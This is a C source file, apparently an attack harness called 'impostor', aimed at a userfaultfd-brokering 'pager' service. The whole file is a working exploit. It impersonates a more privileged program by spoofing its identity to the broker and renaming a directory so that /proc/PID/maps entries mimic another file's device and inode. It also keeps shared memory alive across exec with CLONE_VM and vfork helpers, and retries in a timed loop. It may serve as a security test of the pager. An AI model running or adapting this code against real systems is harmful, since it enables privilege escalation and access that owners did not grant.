// Says hello to its pager with addresses of another program, and becomes that program, which has more rights.
//
// Usage: impostor MAGIC VERSION WORDS HEAD_BYTES BAIT TAKEN ROOM SECONDS BASE. It must be started without the pager's library.
//
// The head lies at BASE, where the other program has the first page of its own file, and the other program is executed from
// a directory that is named as /proc/PID/maps writes the head's device and inode: BAIT's directory can be renamed.
//
// Every other try keeps the memory that the pager knows alive in a process beside it (CLONE_VM). Of these, every other one
// has the other program map the head itself, at the same place.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PROGRAM = 1, PAGE = 1, TAKE_DEVICE = 5, NEW_USERFAULTFD = 0xaa00, PAGE_BYTES = 4096 };

static uint64_t words[64];
static size_t word_count, head_bytes;
static char stacks[2][65536];

static void send_words(int socket, int passed) {
    char space[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec piece = {words, word_count * 8};
    struct msghdr header = {.msg_iov = &piece, .msg_iovlen = 1};
    if (passed >= 0) {
        header.msg_control = space;
        header.msg_controllen = sizeof space;
        struct cmsghdr *part = CMSG_FIRSTHDR(&header);
        *part = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
        memcpy(CMSG_DATA(part), &passed, sizeof passed);
    }
    if (sendmsg(socket, &header, 0) < 0) exit(3);
}

// The verdict, and what came along.
static uint32_t receive_words(int socket, int *passed) {
    char space[CMSG_SPACE(sizeof(int))];
    struct iovec piece = {words, word_count * 8};
    struct msghdr header = {.msg_iov = &piece, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    if (recvmsg(socket, &header, 0) <= 0) exit(4);
    struct cmsghdr *part = CMSG_FIRSTHDR(&header);
    *passed = -1;
    if (part != NULL) memcpy(passed, CMSG_DATA(part), sizeof *passed);
    return (uint32_t)words[2];
}

static int wait_beside(void *milliseconds) {
    struct timespec time = {.tv_sec = (intptr_t)milliseconds / 1000, .tv_nsec = (intptr_t)milliseconds % 1000 * 1000000};
    nanosleep(&time, NULL);
    _exit(0);
}

// A process with this one's memory, that waits for so long.
static void wait_with(int flags, char *stack, intptr_t milliseconds) {
    if (clone(wait_beside, stack + sizeof stacks[0], CLONE_VM | flags, (void *)milliseconds) < 0) exit(10);
}

static void hello(uint64_t magic, uint64_t version, uint64_t token, int status, char **places) {
    uint64_t code = strtoull(places[0], NULL, 10), room = strtoull(places[1], NULL, 10);
    uint64_t start = code & ~4095ull, end = (room + (1 << 18)) & ~4095ull;
    uint64_t own[] = {magic, version, PROGRAM | (uint64_t)getpid() << 32, (uint64_t)(uint32_t)status << 32,
                      token, code, start, end, room, 0};
    memset(words, 0, sizeof words);
    memcpy(words, own, sizeof own);
}

// Where the other program is once its directory has the name of the head's columns.
static char *named_like(int head, const char *bait) {
    static char named[4096], before[4096];
    struct stat about;
    if (fstat(head, &about) != 0) exit(14);
    char *directory = strdup(bait), *program = strrchr(directory, '/');
    *program++ = 0;
    char *end = strrchr(directory, '/');
    snprintf(named, sizeof named, "%.*s/ %02x:%02x %lu ", (int)(end - directory), directory, major(about.st_dev),
             minor(about.st_dev), (unsigned long)about.st_ino);
    // It has that name since the first try.
    if (rename(directory, named) != 0 && errno != ENOENT) exit(15);
    strcpy(before, named);
    snprintf(named, sizeof named, "%s/%s", before, program);
    return named;
}

static void become(uint64_t magic, uint64_t version, char **places, char *bait, char *seconds, char *base, int keeps, int maps) {
    char *variable = strdup(getenv("SPILLWAY_PAGER")), *mark = strrchr(variable, '#');
    *mark = 0;
    uint64_t token = strtoull(mark + 1, NULL, 16);
    int connection = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), passed;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, variable, sizeof address.sun_path - 1);
    if (connect(connection, (struct sockaddr *)&address, sizeof address) != 0) exit(5);
    int device = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    if (device < 0) {
        hello(magic, version, token, -EPERM, places);
        send_words(connection, -1);
        if (receive_words(connection, &device) != TAKE_DEVICE) exit(6);
    }
    int memory = ioctl(device, NEW_USERFAULTFD, O_CLOEXEC | O_NONBLOCK);
    if (memory < 0) exit(7);
    hello(magic, version, token, 0, places);
    send_words(connection, memory);
    if (receive_words(connection, &passed) != PAGE) exit(8);
    void *place = (void *)strtoull(base, NULL, 16);
    // Above all that the other program has at addresses of its own.
    if (maps) place = (char *)place + (1 << 28);
    char *head = mmap(place, head_bytes, PROT_READ, MAP_PRIVATE | MAP_FIXED_NOREPLACE, passed, 0);
    if (head == MAP_FAILED) exit(9);
    memset(words, 0, sizeof words);
    words[0] = magic, words[1] = version, words[2] = (uint64_t)head;
    send_words(connection, -1);
    bait = named_like(passed, bait);
    // The pager believes this one while it waits for another (as in vfork), where no tracer can stop it.
    if (keeps) wait_with(0, stacks[0], 3000);
    wait_with(CLONE_VFORK, stacks[1], 60);
    if (maps) {
        char descriptor[16], address[32], bytes[32];
        snprintf(descriptor, sizeof descriptor, "%d", passed);
        snprintf(address, sizeof address, "%zx", (size_t)place);
        snprintf(bytes, sizeof bytes, "%zu", head_bytes);
        execl(bait, bait, seconds, descriptor, address, bytes, NULL);
    }
    execl(bait, bait, seconds, NULL);
    exit(11);
}

int main(int count, char **arguments) {
    if (count != 10) return 2;
    uint64_t magic = strtoull(arguments[1], NULL, 10), version = strtoull(arguments[2], NULL, 10);
    word_count = strtoul(arguments[3], NULL, 10), head_bytes = strtoul(arguments[4], NULL, 10);
    time_t end = time(NULL) + atoi(arguments[8]);
    int tries = 0;
    do {
        pid_t child = fork();
        if (child == 0) {
            const int keeps = tries % 2 == 0, maps = tries % 4 == 2;
            become(magic, version, arguments + 6, arguments[5], keeps ? "1" : "0.2", arguments[9], keeps, maps);
        }
        int status;
        if (waitpid(child, &status, 0) != child) return 12;
        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) return printf("status %x\n", status), 13;
        tries++;
    } while (time(NULL) < end);
    printf("tries %d\n", tries);
    return 0;
}
